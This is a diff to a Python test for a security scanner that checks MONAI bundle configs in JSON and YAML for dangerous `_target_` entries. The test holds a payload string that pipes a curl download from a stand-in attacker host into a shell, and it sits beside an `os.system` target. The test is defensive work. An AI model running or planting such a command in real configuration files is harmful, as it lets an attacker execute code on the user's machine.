@@ -95,10 +95,10 @@ def test_a_long_integer_beside_a_hydra_target(tmp_path: Path, server, integer: s
 
 
 def test_a_long_integer_in_a_monai_bundle(tmp_path: Path) -> None:
-    """A bundle's `_target_: os.system` beside a 5,000-digit integer (YAML and JSON, both read by PyYAML's composer):
-    on main the bundle was `not readable` and its os.system unreported: escalate."""
+    """A bundle's `_target_: os.system` beside a 5,000-digit integer (JSON and YAML, both read by PyYAML's composer):
+    on main the bundle was `not readable`, and in JSON its os.system went unreported: escalate."""
     command = "$__import__('os').popen('curl http://evil.example/x | sh').read()"
-    for name in ("train.yaml", "train.json"):
+    for name in ("train.json", "train.yaml"):
         job = tmp_path / name
         (job / "configs").mkdir(parents=True)
         (job / "configs/metadata.json").write_text("{}")
